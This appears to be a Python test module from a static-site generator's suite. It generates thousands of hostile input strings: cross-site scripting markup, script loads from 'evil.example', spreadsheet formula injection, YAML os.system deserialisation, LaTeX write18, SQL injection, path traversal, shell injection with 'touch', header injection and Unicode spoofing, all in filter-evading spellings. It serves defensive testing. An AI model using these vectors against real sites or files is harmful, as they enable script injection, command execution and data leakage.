"""Thousands of hostile strings: vectors of many kinds, in the contexts that they break out of, in the spellings that hide them.

Written for this suite; the kinds follow OWASP's cheat sheets on cross-site scripting filters and CSV injection, Unicode's report on
security (UTS 39), and what is known to be live in generators of static sites.
"""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Iterator

CALL = "alert({})"

MARKUP = (
    "<script>{}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math>"     "<img src onerror={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<form action=javascript:{}><input type=submit>", "<button formaction=javascript:{}>x</button>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<body onload={}>", "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<input autofocus onfocus={}>", "<marquee onstart={}>x</marquee>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template>", "<textarea><img title='</textarea><img src=x onerror={}>'>",
    "<title><img title='</title><img src=x onerror={}>'>", "<!--><img src=x onerror={}>-->", "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml-stylesheet href='javascript:{}'?>", "<x onclick={} tabindex=1 id=x>x</x>", "<p style=background:url(javascript:{})>x",
    "<table background=javascript:{}>", "<isindex action=javascript:{} type=image>", "<plaintext>{}", "<frameset onload={}>",
    "<select><option><script>{}</script></select>", "<!DOCTYPE x [<!ENTITY y '{}'>]>&y;",
)  # fmt: skip
"""Markup that runs something where it is obeyed."""

OTHERS = (
    "javascript:{}", "JaVaScRiPt:{}", "vbscript:{}", "data:text/html,<script>{}</script>", "//evil.example/{}",
    "https://a@evil.example/{}", "file:///etc/passwd#{}", "{{{{{}}}}}", "{{%% raw %%}}{}", "${{{}}}", "#{{{}}}", "<%= {} %>",
    "{{{{constructor.constructor('{}')()}}}}", "[x](javascript:{})", "![x](x \"onerror={}\")", "[x]: javascript:{}", "<javascript:{}>",
    "# {}", "- [ ] {}", "`{}`", "*{}*", "| {} |", "--8<-- '{}'", "!!python/object/apply:os.system ['{}']", "&a [*a, {}]",
    "=HYPERLINK(\"https://evil.example/?{}\")", "+cmd|' /C {}'!A0", "-2+3+cmd|'{}'", "@SUM({})", "=1+{}", "\t=1+{}", "\r=1+{}", "＝{}",
    "%0A=1+{}", ";=1+{}", "\"=1+{}", "\\href{{javascript:{}}}{{x}}", "\\url{{javascript:{}}}", "\\text{{<script>{}</script>}}",
    "$\\text{{<img src=x onerror={}>}}$", "$\\href{{javascript:{}}}{{x}}$", "$x_{{{}}}$", "\\def\\x{{{}}}\\x", "\\input{{{}}}",
    "\\write18{{{}}}", "}}, note = {{{}}}", "@string{{x = \"{}\"}}", "\" # {} # \"", "title = {{{}}},\n@misc{{x,", "\\\\{}", "%% {}",
    "'; DROP TABLE papers; --{}", "../../../{}", "..\\..\\{}", "C:\\{}", "CON", "aux.{}", "{}.", "{} ", "/etc/{}", "~{}", "$({})",
    "`touch {}`", "; touch {}", "| touch {}", "\n{}\n", "\r\nSet-Cookie: {}", "\u202e{}\u202c", "\u2066{}\u2069", "\u200b{}", "\ufeff{}",
    "\x00{}", "\x1b[31m{}\x1b[0m", "\u2028{}\u2029", "Z\u0351\u036b\u0343{}\u0317", "\u0627\u0644{}", "\U000e0041{}", "👩\u200d⚕{}", "ﷺ{}",
    "İ{}ı", "ß{}ẞ", "\u212a{}", "a\u0301{}", "﷽{}", "１{}", "𝒳{}", "&lt;script&gt;{}", "&#x3c;img src=x onerror={}&#x3e;", "&amp;lt;{}",
    "%3Cscript%3E{}", "\\u003cscript\\u003e{}", "\\x3cscript>{}", "+ADw-script+AD4-{}", "<!--slot:body-->{}", "<!-- livre:home -->{}",
    "[@example2099winged] {}", "\x00cut{}", "]]>{}", "</script><!--{}", "<!--<script>{}", "-->{}", "'\"><{}", "\\\"{}", "\\'{}",
    "undefined", "null", "NaN", "true", "0", "-0", "1e309", "[]", "{{}}", "()", "''", "\"\"", "None", "__proto__", "constructor",
    "toString", "hasOwnProperty",
)  # fmt: skip
"""Texts that other languages than HTML obey, and such as programs stumble on."""

CONTEXTS = ("{}", '">{}', "'>{}", "</title>{}", "</script>{}", "-->{}", "x {} y", "</p></div></article>{}", "${}$", "a{}<b")
"""What comes before: the end of what a text may stand in."""


def _spelled(text: str) -> Iterator[str]:
    """The text as it is, and as filters may fail to see it."""
    yield text
    yield text.swapcase()
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield "".join(f"&#{ord(c)};" if c in "<>:=/" else c for c in text)
    yield "".join(f"&#x{ord(c):x}" if c in "<>:" else c for c in text)
    yield quote(text, safe=" ")
    yield text.replace("script", "scr\tipt").replace("on", "o\x00n")
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace(" ", "/").replace("=", " = ")


def strings() -> tuple[str, ...]:
    """Every hostile string, each once, in one order; each names its number, so that a call can be told by what it says."""
    found: dict[str, None] = {}
    for vector, context in product(MARKUP, CONTEXTS):
        for text in _spelled(vector):
            found.setdefault(context.replace("{}", text), None)
    for vector, context in product(OTHERS, CONTEXTS):
        found.setdefault(context.replace("{}", vector), None)
        found.setdefault(context.replace("{}", vector).swapcase(), None)
    out = []
    for number, text in enumerate(found):
        call = CALL.replace("{}", str(number))
        out.append(text.replace("{{", "{").replace("}}", "}").replace("{}", call) if "{}" in text else f"{text}{number}")
    return tuple(dict.fromkeys(out))
